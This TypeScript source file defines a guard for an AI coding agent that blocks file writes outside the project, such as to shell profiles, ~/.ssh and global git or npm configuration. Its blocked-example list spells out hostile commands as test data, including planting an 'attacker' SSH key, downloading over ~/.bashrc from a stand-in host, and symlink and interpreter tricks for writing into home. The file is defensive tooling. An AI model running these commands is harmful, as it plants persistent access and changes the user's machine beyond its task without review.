import { defineGuard, SHELL_TOOLS, type GuardContext } from '../core/guards/types';
import { argPath, fileWrites, flags, parseGit, runs } from '../core/guards/helpers';
import { isHarmlessDevice, isTempPath } from '../core/guards/targets';
import type { Invocation, ShellAnalysis } from '../core/shell/model';
import { dirname, isAbsolutePath, isSameOrAncestor, normalizePath, relativeTo, resolvePath } from '../core/paths';
import { analysisEffects, fileWritesOf } from '../core/effects/derive';

const PROFILES =
  /^(\.bashrc|\.bash_profile|\.bash_login|\.profile|\.zshrc|\.zshenv|\.zprofile|\.zlogin|\.config\/fish\/config\.fish|\.inputrc|Documents\/(Windows)?PowerShell\/.*profile\.ps1)$/i;

/** Where writing is fine: the project, the call's cwd, temp, configured roots, and Claude Code's additionalDirectories. */
function allowedRoots(ctx: GuardContext, cwd: string): string[] {
  const roots = [ctx.projectDir, cwd];
  for (const r of ctx.config.allowedWriteRoots) roots.push(resolvePath(ctx.projectDir, r, ctx.home));
  for (const file of [`${ctx.projectDir}/.claude/settings.json`, `${ctx.projectDir}/.claude/settings.local.json`, `${ctx.home}/.claude/settings.json`]) {
    try {
      const dirs = (JSON.parse(ctx.readText(file) ?? '{}') as { permissions?: { additionalDirectories?: unknown } }).permissions?.additionalDirectories;
      if (Array.isArray(dirs)) for (const d of dirs) if (typeof d === 'string') roots.push(resolvePath(ctx.projectDir, d, ctx.home));
    } catch {
      /* no such settings */
    }
  }
  return roots.map(normalizePath);
}

/** The target as written, or, for a write that leaves through a link, where it really lands. */
function where(path: string, lands: string, ctx: GuardContext): string {
  if (lands === path) return describe(path, ctx);
  return `${relativeTo(ctx.projectDir, path) ?? path}, a symbolic link to ${describe(lands, ctx)}`;
}

function describe(path: string, ctx: GuardContext): string {
  const inHome = relativeTo(ctx.home, path);
  if (inHome !== null) {
    if (PROFILES.test(inHome)) return `your shell profile ~/${inHome}, which runs in every new terminal`;
    if (inHome.startsWith('.ssh/')) return `~/${inHome}, which decides who can log in as you`;
    if (inHome === '.gitconfig' || inHome.startsWith('.config/git/')) return `your global git configuration ~/${inHome}`;
    return `~/${inHome}, outside the project`;
  }
  return `${path}, outside the project`;
}

function outsideAsWritten(path: string, roots: string[], ctx: GuardContext): boolean {
  if (isHarmlessDevice(path)) return false;
  if (roots.some((r) => isSameOrAncestor(r, path))) return false;
  // Temp is scratch space, but not the folder a project in temp sits in: its siblings are other projects.
  if (isTempPath(path)) return isTempPath(ctx.projectDir) && isSameOrAncestor(dirname(ctx.projectDir), path);
  return true;
}

/**
 * Outside as written, or outside once links are followed: `ln -s ~ h` then a write to `h/.bashrc`
 * lands in home. Where the write lands is what counts: a link out of the project leads outside.
 */
function outside(path: string, roots: string[], ctx: GuardContext): string | null {
  if (outsideAsWritten(path, roots, ctx)) return path;
  if (isHarmlessDevice(path)) return null;
  const real = ctx.realpath(path);
  if (real === path) return null;
  return outsideAsWritten(
    real,
    roots.map((r) => ctx.realpath(r)),
    ctx,
  )
    ? real
    : null;
}

/** Folders where creating an empty file or a directory is fine: caches the tools keep in home. */
function cacheDir(path: string, ctx: GuardContext): boolean {
  return isSameOrAncestor(`${ctx.home}/.cache`, path);
}

/**
 * Every write of the line by the effects layer (redirections on any descriptor, in-place editors,
 * copies, downloads, archives extracted, interpreter file writes), after the links the line made:
 * `ln -s ~/.bashrc rc; echo x >> rc` writes ~/.bashrc. A file `find -exec` is given (`{}`) lies
 * under find's starting points. Creating an empty file, a folder or a socket (`nc -lU ~/x.sock`)
 * counts too, except in ~/.cache.
 */
function effectWrites(analysis: ShellAnalysis, ctx: GuardContext): { inv: Invocation; path: string; how: string }[] {
  const out: { inv: Invocation; path: string; how: string }[] = [];
  for (const w of fileWritesOf(analysis, ctx.home)) {
    const roots = w.inv.findRoots;
    const name = w.inv.cwd && relativeTo(w.inv.cwd, w.path);
    if (roots && name !== null && name !== undefined && !name.includes('/') && w.inv.args.some((a) => a.known === name || a.known === '{}')) {
      for (const r of roots) {
        const root = argPath(w.inv, r, ctx.home);
        if (root) out.push({ inv: w.inv, path: name === '{}' ? root : `${root}/${name}`, how: `${w.how} (run by find -exec)` });
      }
      continue;
    }
    out.push(w);
  }
  for (const ie of analysisEffects(analysis, ctx.home)) {
    if (ie.inv.wrapper) continue;
    for (const e of ie.effects)
      if (e.kind === 'write' && (e.how === 'touch' || e.how === 'socket') && e.target.path && !cacheDir(e.target.path, ctx))
        out.push({ inv: ie.inv, path: e.target.path, how: ie.inv.program });
  }
  return out;
}

const NO_WRITES: readonly { path: string; how: string }[] = [];

/** Programs whose last operand is where they write. */
const COPIERS = new Set(['cp', 'mv', 'install', 'ln', 'rsync']);

function shellWrites(inv: Invocation, home: string): { path: string; how: string }[] {
  const out = fileWrites(inv, home);
  if (COPIERS.has(inv.program)) {
    const f = flags(inv.args, ['-t', '--target-directory', '-S', '--suffix', '-m', '--mode', '-o', '-g', '-e']);
    const dest = f.positional[f.positional.length - 1];
    const path = dest && f.positional.length >= 2 ? argPath(inv, dest, home) : null;
    if (path && !/^[^/]+:/.test(dest!.known ?? '')) out.push({ path, how: inv.program });
  }
  return out;
}

/**
 * Run in another environment (`ssh host 'cd /srv/app && git pull'`, `docker exec app …`): its files
 * are not this machine's, except the host folders a container mounts (already mapped to host paths).
 */
function remote(inv: Invocation, path?: string): boolean {
  if (inv.elsewhere === undefined) return false;
  return path === undefined || !inv.hostRoots?.some((r) => isSameOrAncestor(r, path));
}

/** git subcommands that change the repository they run in (its files, index, refs or config). */
const GIT_WRITERS = new Set([
  'add',
  'am',
  'apply',
  'checkout',
  'cherry-pick',
  'clean',
  'commit',
  'merge',
  'mv',
  'pull',
  'rebase',
  'reset',
  'restore',
  'revert',
  'rm',
  'stash',
  'switch',
  'tag',
  'branch',
  'init',
  'worktree',
  'notes',
  'update-ref',
  'gc',
  'prune',
]);
const GIT_READ_OPTS = new Set(['--get', '--get-all', '--get-regexp', '--list', '-l', '--show-origin', '--get-urlmatch']);

/**
 * Configuration files a tool writes for you: `git config --file F`, `npm config set` (~/.npmrc
 * unless --location project), and a git command that changes a repository outside the project
 * (`git -C ~/other commit`).
 */
function configWrites(inv: Invocation, ctx: GuardContext): { path: string; how: string }[] {
  const git = inv.program === 'git' ? parseGit(inv, ctx.home) : null;
  if (git?.sub === 'config') {
    if (git.args.some((a) => GIT_READ_OPTS.has(a.known ?? ''))) return [];
    const i = git.args.findIndex((a) => a.known === '--file' || a.known === '-f' || (a.known ?? '').startsWith('--file='));
    const v = i < 0 ? null : git.args[i]!.known!.startsWith('--file=') ? git.args[i]!.known!.slice(7) : (git.args[i + 1]?.known ?? null);
    const path = v && v !== '-' ? argPath({ ...inv, cwd: git.cwd }, { ...git.args[i]!, known: v }, ctx.home) : null;
    return path && git.args.length > 2 ? [{ path, how: 'git config --file' }] : [];
  }
  if (git && GIT_WRITERS.has(git.sub) && git.cwd) return [{ path: git.cwd, how: `git ${git.sub} in that repository` }];
  if (['npm', 'pnpm'].includes(inv.program) && inv.args[0]?.known === 'config' && ['set', 'delete', 'edit', 'fix'].includes(inv.args[1]?.known ?? '')) {
    const loc = inv.args.findIndex((a) => a.known === '--location' || a.known === '-L');
    const where = loc >= 0 ? inv.args[loc + 1]?.known : (inv.args.find((a) => (a.known ?? '').startsWith('--location='))?.known?.slice(11) ?? null);
    const global = inv.args.some((a) => a.known === '-g' || a.known === '--global');
    if (where === 'project' && !global) return [];
    return [{ path: global || where === 'global' ? '/usr/local/etc/npmrc' : `${ctx.home}/.npmrc`, how: `${inv.program} config ${inv.args[1]!.known}` }];
  }
  return [];
}

/** git config options that take a value (`--type bool`), so the value is not the key. */
const GIT_CONFIG_VALUES = new Set(['--type', '--file', '-f', '--blob', '--default', '--comment', '--value', '--fixed-value']);
/** git config forms that only read: --get*, --list, the `get`/`list` subcommands, or a lone key (`git config --global core.autocrlf`). */
function gitConfigReads(args: (string | null)[]): boolean {
  if (args.some((a) => a === null)) return false;
  const words = args as string[];
  if (words.some((a) => ['--get', '--get-all', '--get-regexp', '--get-urlmatch', '--get-color', '--get-colorbool', '--list', '-l'].includes(a))) return true;
  if (words.some((a) => /^--(?:unset|add|replace-all|rename-section|remove-section|edit)\b|^-e$/.test(a))) return false;
  const positional: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const a = words[i]!;
    if (GIT_CONFIG_VALUES.has(a)) i++;
    else if (!a.startsWith('-')) positional.push(a);
  }
  if (positional[0] === 'get' || positional[0] === 'list') return true;
  return positional.length === 1 && !['set', 'unset', 'edit', 'rename-section', 'remove-section'].includes(positional[0]!);
}

export default defineGuard({
  id: 'outside-workspace-write',
  title: 'No writes outside the project (shell profiles, ~/.ssh, git config, system files)',
  prevents:
    'An agent appends to ~/.bashrc or ~/.ssh/authorized_keys, or edits /etc/hosts: changes that outlive the session, affect every other project, and nobody reviews.',
  tools: ['Write', 'Edit', 'MultiEdit', 'NotebookEdit', ...SHELL_TOOLS],
  check(call, ctx) {
    let roots: string[] | null = null;
    const rootsFor = () => (roots ??= allowedRoots(ctx, call.cwd));
    const advice = 'If this change is really wanted, ask the user to make it, or to add the folder to allowedWriteRoots in .claude/agent-guard.json.';
    if (call.edits && call.path) {
      const lands = isAbsolutePath(call.path) ? outside(call.path, rootsFor(), ctx) : null;
      if (lands === null) return null;
      return { reason: `${call.tool} of ${where(call.path, lands, ctx)}. ${advice}` };
    }
    if (!call.command) return null;
    for (const inv of runs(ctx.shell())) {
      const git = parseGit(inv, ctx.home);
      if (git?.sub === 'config' && git.args.some((a) => a.known === '--global' || a.known === '--system') && !gitConfigReads(git.args.map((a) => a.known))) {
        const key = git.args.find((a) => !(a.known ?? '').startsWith('-'))?.known ?? '';
        return {
          reason: `git config --global changes your git configuration for every repository on this machine. Set it for this repository only.`,
          instead: `git config --local ${key}`.trim(),
        };
      }
      // The two lists in turn, each built before either is judged (as one list was).
      const own = shellWrites(inv, ctx.home);
      const config = remote(inv) ? NO_WRITES : configWrites(inv, ctx);
      for (const list of [own, config])
        for (const w of list) {
          if (remote(inv, w.path)) continue;
          const lands = outside(w.path, rootsFor(), ctx);
          if (lands !== null) return { reason: `${inv.program} writes ${where(w.path, lands, ctx)} (${w.how}). ${advice}` };
        }
    }
    for (const w of effectWrites(ctx.shell(), ctx)) {
      if (remote(w.inv, w.path)) continue;
      const lands = outside(w.path, rootsFor(), ctx);
      if (lands !== null) return { reason: `${w.inv.program} writes ${where(w.path, lands, ctx)} (${w.how}). ${advice}` };
    }
    return null;
  },
  examples: {
    blocked: [
      { tool_name: 'Edit', tool_input: { file_path: '/home/user/.bashrc', old_string: 'export PATH', new_string: 'export PATH=/opt/bin:$PATH\nexport PATH' } },
      { tool_name: 'Write', tool_input: { file_path: '/home/user/.ssh/authorized_keys', content: 'ssh-ed25519 AAAA attacker' } },
      { tool_name: 'Write', tool_input: { file_path: '/etc/hosts', content: '127.0.0.1 api.example.com\n' } },
      { tool_name: 'Bash', tool_input: { command: 'echo "alias ll=\'ls -la\'" >> ~/.zshrc' } },
      { tool_name: 'Bash', tool_input: { command: 'cat key.pub | tee -a ~/.ssh/authorized_keys' } },
      { tool_name: 'Bash', tool_input: { command: "sed -i 's/127.0.0.1/10.0.0.1/' /etc/hosts" } },
      { tool_name: 'Bash', tool_input: { command: 'git config --global user.email bot@example.com' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --global --unset core.autocrlf' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --global set core.autocrlf true' } },
      { tool_name: 'Bash', tool_input: { command: 'cp .env ../other-project/.env' } },
      { tool_name: 'Edit', tool_input: { file_path: '../sibling/src/a.ts', old_string: 'a', new_string: 'b' } },
      // every writer, by the effects layer
      { tool_name: 'Bash', tool_input: { command: `python3 -c "open('/home/user/.bashrc','a').write('x')"` } },
      { tool_name: 'Bash', tool_input: { command: 'tar xf /tmp/x.tar -C ~' }, note: 'the whole archive lands in home' },
      { tool_name: 'Bash', tool_input: { command: 'unzip -o /tmp/x.zip -d ~' } },
      { tool_name: 'Bash', tool_input: { command: 'curl -o ~/.bashrc https://x.example/rc' } },
      { tool_name: 'Bash', tool_input: { command: 'wget -O ~/.ssh/authorized_keys https://x.example/k' } },
      { tool_name: 'Bash', tool_input: { command: 'exec 3>>~/.bashrc; echo evil >&3' }, note: 'a redirection on any descriptor' },
      { tool_name: 'Bash', tool_input: { command: 'cd .. && echo x > sibling.txt' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --file ~/.gitconfig core.pager "less -R"' } },
      { tool_name: 'Bash', tool_input: { command: 'npm config set registry http://registry.example' }, note: 'writes ~/.npmrc' },
      { tool_name: 'Bash', tool_input: { command: 'ln -s ~/.bashrc rc; echo x >> rc' }, note: 'through a link the line made' },
      { tool_name: 'Bash', tool_input: { command: "sed -i 's/a/b/' ../other-project/src/x.ts" } },
      {
        tool_name: 'Bash',
        tool_input: { command: "find ~ -maxdepth 1 -name .bashrc -exec sed -i 's/a/b/' {} +" },
        note: '{} lies under find’s starting point',
      },
      { tool_name: 'Bash', tool_input: { command: 'git -C ~/other commit -am x' }, note: 'changes another repository' },
      { tool_name: 'Bash', tool_input: { command: 'touch ~/x' } },
      { tool_name: 'Bash', tool_input: { command: 'mkdir ~/newdir' } },
      // Tools that write their own configuration in home (signatures/config-files.ts).
      { tool_name: 'Bash', tool_input: { command: 'pip config set global.index-url https://x.example.dev/simple' }, note: 'writes ~/.config/pip/pip.conf' },
      { tool_name: 'Bash', tool_input: { command: 'pip3 config --user set global.index-url https://x.example.dev/simple' } },
      { tool_name: 'Bash', tool_input: { command: 'conda config --add channels https://x.example.dev' } },
      { tool_name: 'Bash', tool_input: { command: 'go env -w GOPROXY=https://x.example.dev' } },
      { tool_name: 'Bash', tool_input: { command: 'bundle config set path /opt/gems' } },
      // Which option or positional a program writes (its signature row).
      { tool_name: 'Bash', tool_input: { command: 'wget -q -P ~/bin https://x.example.dev/tool' }, note: 'the folder downloads are saved in' },
      { tool_name: 'Bash', tool_input: { command: 'ssh-keygen -q -t ed25519 -N "" -f ~/.ssh/id_ed25519' }, note: 'overwrites the user key' },
      { tool_name: 'Bash', tool_input: { command: 'ssh-keygen -t ed25519 -N ""' }, note: 'no terminal to ask on: the default ~/.ssh/id_ed25519' },
      { tool_name: 'Bash', tool_input: { command: 'git clone https://github.com/o/r ~/r' } },
      { tool_name: 'Bash', tool_input: { command: 'git init ~/scratch' } },
      // Interpreter code that builds the path from the home directory.
      { tool_name: 'Bash', tool_input: { command: `node -e "require('fs').writeFileSync(require('os').homedir()+'/.npmrc','x')"` } },
      {
        tool_name: 'Bash',
        tool_input: { command: `node -e "const p=require('path'),os=require('os');require('fs').appendFileSync(p.join(os.homedir(),'.bashrc'),'x')"` },
      },
      { tool_name: 'Bash', tool_input: { command: `python3 -c "import os; open(os.path.expanduser('~')+'/.bashrc','a').write('x')"` } },
      { tool_name: 'Bash', tool_input: { command: `ruby -e "File.write(File.join(Dir.home, '.gemrc'), 'x')"` } },
      { tool_name: 'Bash', tool_input: { command: `php -r "file_put_contents(getenv('HOME').'/.bashrc', 'x');"` } },
    ],
    allowed: [
      { tool_name: 'Write', tool_input: { file_path: 'src/new.ts', content: 'export {};\n' } },
      { tool_name: 'Write', tool_input: { file_path: '/tmp/scratch.txt', content: 'notes' } },
      { tool_name: 'Bash', tool_input: { command: 'npm test > /dev/null 2>&1' } },
      { tool_name: 'Bash', tool_input: { command: 'echo done >> build.log' } },
      { tool_name: 'Bash', tool_input: { command: 'git config user.email bot@example.com' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --global --get user.name' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --global core.autocrlf' }, note: 'a lone key is a read' },
      { tool_name: 'Bash', tool_input: { command: 'git config --global get user.email' } },
      { tool_name: 'Bash', tool_input: { command: 'cp dist/app.js /tmp/app.js' } },
      { tool_name: 'Bash', tool_input: { command: 'scp dist/app.tar.gz deploy@host:/srv/' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --local core.hooksPath .githooks' } },
      { tool_name: 'Edit', tool_input: { file_path: '/home/user/project/.claude/worktrees/x/src/a.ts', old_string: 'a', new_string: 'b' } },
      { tool_name: 'Bash', tool_input: { command: 'tar xf x.tar -C build' } },
      { tool_name: 'Bash', tool_input: { command: 'unzip -o /tmp/x.zip -d dist' } },
      { tool_name: 'Bash', tool_input: { command: 'curl -o /tmp/x.json https://api.example.com/x' } },
      { tool_name: 'Bash', tool_input: { command: 'mkdir -p ~/.cache/app' }, note: 'a folder in the tools’ cache' },
      { tool_name: 'Bash', tool_input: { command: 'npm config get registry' } },
      { tool_name: 'Bash', tool_input: { command: 'npm config set registry https://registry.example --location project' } },
      { tool_name: 'Bash', tool_input: { command: 'git -C ../sibling status' } },
      { tool_name: 'Bash', tool_input: { command: 'exec 3>&1; echo hi >&3; exec 2>>build.log' } },
      { tool_name: 'Bash', tool_input: { command: 'git config --file .gitmodules submodule.x.url https://example.com/x.git' } },
      { tool_name: 'Bash', tool_input: { command: "find . -name '*.ts' -exec sed -i 's/a/b/' {} +" } },
      { tool_name: 'Bash', tool_input: { command: `python3 -c "open('out.txt','w').write('x')"` } },
      { tool_name: 'Bash', tool_input: { command: 'pip config list' } },
      { tool_name: 'Bash', tool_input: { command: 'pip config get global.index-url' } },
      { tool_name: 'Bash', tool_input: { command: 'bundle config set --local path vendor/bundle' } },
      { tool_name: 'Bash', tool_input: { command: 'go env GOPATH' } },
      { tool_name: 'Bash', tool_input: { command: 'wget -P ./vendor https://x.example.dev/tool' } },
      { tool_name: 'Bash', tool_input: { command: 'ssh-keygen -l -f key.pub' } },
      { tool_name: 'Bash', tool_input: { command: 'ssh-keygen -t ed25519 -N "" -f ./deploy_key' } },
      { tool_name: 'Bash', tool_input: { command: 'ssh-keygen -F github.com' } },
      { tool_name: 'Bash', tool_input: { command: 'git clone https://github.com/o/r ./sub' } },
      { tool_name: 'Bash', tool_input: { command: 'git clone https://github.com/o/r' } },
      { tool_name: 'Bash', tool_input: { command: 'git worktree add ../wt-feature feature' }, note: 'a worktree beside the project is how worktrees are used' },
      { tool_name: 'Bash', tool_input: { command: `node -e "console.log(require('os').homedir())"` } },
      { tool_name: 'Bash', tool_input: { command: `node -e "require('fs').writeFileSync(require('path').join('dist','x.txt'),'x')"` } },
    ],
  },
});
